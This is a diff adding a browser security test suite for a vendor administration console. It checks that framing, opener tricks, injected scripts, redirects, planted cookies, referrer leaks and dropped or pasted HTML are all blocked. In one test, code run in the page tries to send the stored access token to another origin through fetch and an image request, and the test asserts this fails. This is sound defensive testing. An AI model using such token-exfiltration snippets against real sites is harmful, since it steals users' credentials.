@@ -1,0 +1,279 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { createServer, type IncomingMessage } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import * as assert from 'uvu/assert'
+import { stories } from './story.ts'
+import { button, calls, dialog, eventually, heading, painted, press, range, signOut, stored, tab, vendorsShown } from './steps.ts'
+
+const story = stories('hostile')
+
+const admin = { as: 'systemAdmin' } as const
+
+interface Stranger { origin: string; seen: { path: string; headers: IncomingMessage['headers'] }[]; close: () => void }
+
+/** Somebody else's site, on another origin: it answers every path with this page, and notes who asks. */
+async function stranger(body = ''): Promise<Stranger> {
+  const seen: Stranger['seen'] = []
+  const server = createServer(({ url = '', headers }, outgoing) => {
+    seen.push({ path: url, headers })
+    const open = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }
+    outgoing.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...open })
+    outgoing.end(`<!doctype html><html lang="ja"><title>よその頁</title><main><h1>よその頁</h1>${body}</main>`)
+  })
+  await new Promise<void>(resolve => server.listen(0, 'localhost', resolve))
+  const close = () => { server.close(); server.closeAllConnections() }
+  return { origin: `http://localhost:${(server.address() as AddressInfo).port}`, seen, close }
+}
+
+const elsewhere = /request to another origin: http:\/\/localhost:/
+
+story('H51 another site can put the console into no frame', async ({ page, origin, platform, allow }) => {
+  allow(elsewhere)
+  allow(/Refused to (frame|display)|frame-ancestors|X-Frame-Options/i)
+  const site = await stranger(`<iframe title="x" src="${origin}/#/vendors"></iframe>`)
+  try {
+    await page.goto(site.origin)
+    await eventually(() => assert.is(page.frames().length, 2))
+    await page.waitForTimeout(300)
+    assert.match(page.frames()[1]!.url(), /^chrome-error:/)
+    assert.is(await page.frames()[1]!.getByText('API利用者画面').count(), 0)
+    assert.equal(platform.requests, [])
+    await page.goto('about:blank')
+  } finally {
+    site.close()
+  }
+}, admin)
+
+story('H52 a site that opens the console in a window has no hold on it, and leaves it neither its name nor a message', async tools => {
+  const { page, context, origin, platform, allow } = tools
+  allow(elsewhere)
+  const site = await stranger('<button type="button">開く</button>')
+  try {
+    await page.goto(site.origin)
+    await page.evaluate(address => {
+      document.querySelector('button')!.addEventListener('click', () => {
+        const opened = window.open(address, 'planted-name')!
+        Object.assign(globalThis, { opened })
+        setInterval(() => { try { opened.postMessage({ type: 'signOut' }, '*') } catch { /* Gone. */ } }, 20)
+      })
+    }, `${origin}/#/vendors`)
+    const [opened] = await Promise.all([context.waitForEvent('page'), page.getByRole('button').click()])
+    await vendorsShown(opened)
+    assert.equal(await opened.evaluate(() => [window.opener, window.name]), [null, ''])
+    await eventually(async () => assert.is(await page.evaluate(() => (globalThis as unknown as { opened: Window }).opened.closed), true))
+    await opened.waitForTimeout(100)
+    await heading(opened, 'ベンダー').waitFor()
+    assert.is(calls(platform, 'GET', /logout|end_session/).length, 0)
+    await page.close()
+  } finally {
+    site.close()
+  }
+}, admin)
+
+story('H53 a script that got into the page all the same can make no markup and no code, and send nothing away', async tools => {
+  const { page, origin, allow } = tools
+  allow(/content security policy/)
+  allow(/console error/)
+  allow(elsewhere)
+  const site = await stranger()
+  try {
+    await page.goto(`${origin}/#/vendors`)
+    await vendorsShown(page)
+    const outcome = await page.evaluate(async address => {
+      const attempt = async (deed: () => unknown) => {
+        try {
+          await deed()
+          return 'done'
+        } catch (error) {
+          return (error as Error).name
+        }
+      }
+      const load = (element: HTMLElement) => new Promise((resolve, reject) => {
+        element.onload = resolve
+        element.onerror = () => reject(new TypeError('blocked'))
+        document.body.append(element)
+      }).finally(() => element.remove())
+      // What a debugger evaluates may use eval; what runs later may not.
+      await new Promise(resolve => setTimeout(resolve))
+      return {
+        markup: await attempt(() => { document.createElement('div').innerHTML = '<b>x</b>' }),
+        write: await attempt(() => document.write('<b>x</b>')),
+        code: await attempt(() => (0, eval)('1')),
+        made: await attempt(() => new Function('return 1')()),
+        policy: await attempt(() => (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } })
+          .trustedTypes.createPolicy('default', { createHTML: (text: string) => text })),
+        request: await attempt(() => fetch(`${address}/fetch?${localStorage.getItem('accessToken')}`)),
+        image: await attempt(() => load(Object.assign(new Image(), { src: `${address}/image?${localStorage.getItem('accessToken')}` }))),
+        style: await attempt(() => load(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${address}/style` }))),
+        beacon: await attempt(() => { if (!navigator.sendBeacon(`${address}/beacon`, 'x')) throw new TypeError('blocked') }),
+        worker: await attempt(() => { new Worker(`${address}/worker` as string) }),
+      }
+    }, site.origin)
+    const { beacon: _, ...others } = outcome
+    assert.equal(Object.entries(others).filter(([, how]) => how === 'done'), [])
+    // A form and a frame give no error, they go nowhere.
+    await page.evaluate(address => {
+      const form = Object.assign(document.createElement('form'), { action: `${address}/form`, method: 'post' })
+      document.body.append(form)
+      form.submit()
+      const frame = Object.assign(document.createElement('iframe'), { src: `${address}/frame` })
+      document.body.append(frame)
+      frame.remove()
+      form.remove()
+    }, site.origin)
+    await page.waitForTimeout(300)
+    assert.equal(site.seen, [])
+    assert.is(new URL(page.url()).origin, origin)
+  } finally {
+    site.close()
+  }
+}, admin)
+
+story('H54 a server that sends a request on to another origin fails it, and the token goes nowhere', async tools => {
+  const { page, origin, platform, allow } = tools
+  allow(/content security policy: connect-src/)
+  allow(elsewhere)
+  allow(/console error/)
+  const site = await stranger()
+  try {
+    const { handle } = platform
+    let sentOn = 0
+    platform.handle = async request => {
+      if (!new URL(request.url).pathname.startsWith('/api/v1/vendors/')) return handle(request)
+      sentOn++
+      return new Response(null, { status: [301, 307][sentOn % 2]!, headers: { location: `${site.origin}/taken` } })
+    }
+    await page.goto(`${origin}/#/vendors`)
+    await page.getByText('ベンダー情報を取得できませんでした。').first().waitFor()
+    await press(page, '再試行')
+    await eventually(() => assert.is(sentOn, 2))
+    await page.getByText('ベンダー情報を取得できませんでした。').first().waitFor()
+    assert.equal(site.seen, [])
+  } finally {
+    site.close()
+  }
+}, admin)
+
+story('H55 cookies that the API tries to set are not taken, and its answers stay in no cache', async tools => {
+  const { page, context, origin, platform, allow } = tools
+  allow(/ERR_CACHE_MISS/)
+  const { handle } = platform
+  const cookies: (string | null)[] = []
+  platform.handle = async request => {
+    cookies.push(request.headers.get('cookie'))
+    const response = await handle(request)
+    const headers = new Headers(response.headers)
+    headers.set('set-cookie', 'session=planted; Path=/')
+    headers.set('cache-control', 'public, max-age=86400')
+    return new Response(response.body, { status: response.status, headers })
+  }
+  await page.goto(`${origin}/#/vendors`)
+  await vendorsShown(page)
+  await tab(page, 'グループ').click()
+  await heading(page, 'グループ').waitFor()
+  assert.equal(await context.cookies(), [])
+  assert.equal([...new Set(cookies)], [null])
+  const cached = await page.evaluate(() => fetch('/api/v1/vendors/get_detail/', { cache: 'only-if-cached', mode: 'same-origin' })
+    .then(response => response.status, () => 'none'))
+  assert.ok(cached === 'none' || cached === 504, String(cached))
+}, admin)
+
+story('H56 no site that the console leads to learns from where', async ({ page, origin, allow }) => {
+  allow(elsewhere)
+  const site = await stranger()
+  try {
+    const auth = { authorizationEndpoint: `${site.origin}/authorize`, clientId: 'console' }
+    await page.route('**/config.json', route => route.fulfill({ json: { auth, support: { url: `${site.origin}/support` } } }))
+    await page.goto(`${origin}/#/unauthorized?secret=1`)
+    await page.getByRole('link', { name: `${site.origin}/support` }).click()
+    await heading(page, 'よその頁').waitFor()
+    assert.is(await page.evaluate(() => document.referrer), '')
+    await page.goto(`${origin}/#/intro?secret=1`)
+    await press(page, 'サインイン')
+    await heading(page, 'よその頁').waitFor()
+    const asked = site.seen.filter(({ path }) => /^\/(support|authorize)/.test(path))
+    assert.equal(asked.map(({ headers }) => headers.referer), [undefined, undefined])
+    assert.not.match(asked.map(({ path }) => path).join(), 'secret')
+    await page.goto('about:blank')
+  } finally {
+    site.close()
+  }
+})
+
+story('H57 a file that is dropped on the page neither replaces the console nor what is typed', async ({ page, context, origin }) => {
+  const folder = await mkdtemp(join(tmpdir(), 'drop-'))
+  try {
+    const file = join(folder, 'evil.html')
+    await writeFile(file, '<script>document.title = "evil"</script>')
+    await page.goto(`${origin}/#/vendors`)
+    await vendorsShown(page)
+    await press(page, '追加')
+    const form = dialog(page, 'ベンダー追加')
+    await form.getByLabel('ベンダー名').fill('書きかけ')
+    const cdp = await context.newCDPSession(page)
+    const data = { items: [], files: [file], dragOperationsMask: 1 }
+    for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await cdp.send('Input.dispatchDragEvent', { type, x: 640, y: 300, data })
+    await page.waitForTimeout(300)
+    assert.is(new URL(page.url()).origin, origin)
+    assert.is(await form.getByLabel('ベンダー名').inputValue(), '書きかけ')
+    for (const opened of context.pages()) if (opened !== page) await opened.close()
+  } finally {
+    await rm(folder, { recursive: true })
+  }
+}, admin)
+
+story('H58 rich text that is pasted or dropped into a field is its plain text', async ({ page, context, origin }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin })
+  await page.goto(`${origin}/#/vendors`)
+  await vendorsShown(page)
+  await press(page, '追加')
+  const field = dialog(page, 'ベンダー追加').getByLabel('ベンダー名')
+  await page.evaluate(async () => {
+    const html = '<b>太字</b><img alt="x"><a href="https://evil.example/">x</a>'
+    const part = (text: string, type: string) => new Blob([text], { type })
+    const plain = '太字\u0000<b>'
+    await navigator.clipboard.write([new ClipboardItem({ 'text/html': part(html, 'text/html'), 'text/plain': part(plain, 'text/plain') })])
+  })
+  await field.focus()
+  await page.keyboard.press('Control+V')
+  await eventually(async () => assert.match(await field.inputValue(), /^太字.?<b>$/))
+  assert.is(await page.locator('dialog b, dialog img, dialog a').count(), 0)
+}, admin)
+
+story('H59 after a sign-out neither storage, cookies, caches, workers nor databases hold anything', async tools => {
+  const { page, context, origin, signIn } = tools
+  await signIn('systemAdmin')
+  await vendorsShown(page)
+  await signOut(page)
+  await heading(page, 'API利用者画面').waitFor()
+  const { local, session } = await stored(page)
+  assert.equal([local, session, await context.cookies(origin)], [{}, {}, []])
+  assert.equal(await page.evaluate(async () => [
+    (await navigator.serviceWorker.getRegistrations()).length, (await caches.keys()).length, (await indexedDB.databases()).length,
+    window.name,
+  ]), [0, 0, 0, ''])
+})
+
+story('T56 20,000 users on one page are usable: the first are there at once, and a filter finds among all', async tools => {
+  const { page, origin, platform } = tools
+  const users = platform.tables.vendorUsers.filter(link => link.vendor === 2).length
+  assert.ok(users >= 20_000, String(users))
+  page.setDefaultTimeout(60_000)
+  await page.goto(`${origin}/#/users?vendor=2&users.rows=0`)
+  await page.getByRole('table', { name: 'ユーザー一覧' }).getByRole('rowheader').first().waitFor()
+  await range(page, `1-${users} / ${users}件`).waitFor()
+  const { user } = platform.tables.vendorUsers.findLast(link => link.vendor === 2)!
+  const last = platform.tables.users.find(({ id }) => id === user)!
+  const filter = page.getByLabel('メールアドレス', { exact: true })
+  const started = performance.now()
+  await filter.fill(last.user_name)
+  assert.is(await filter.inputValue(), last.user_name)
+  assert.ok(performance.now() - started < 5_000, 'a keystroke waits for the rows')
+  await range(page, '1-1 / 1件').waitFor()
+  await button(page, `${last.user_name}を編集`).waitFor()
+  await painted(page)
+}, { as: 'systemAdmin', platform: { vendors: 2, usersPerVendor: 20_000 } })
+
+story.run()
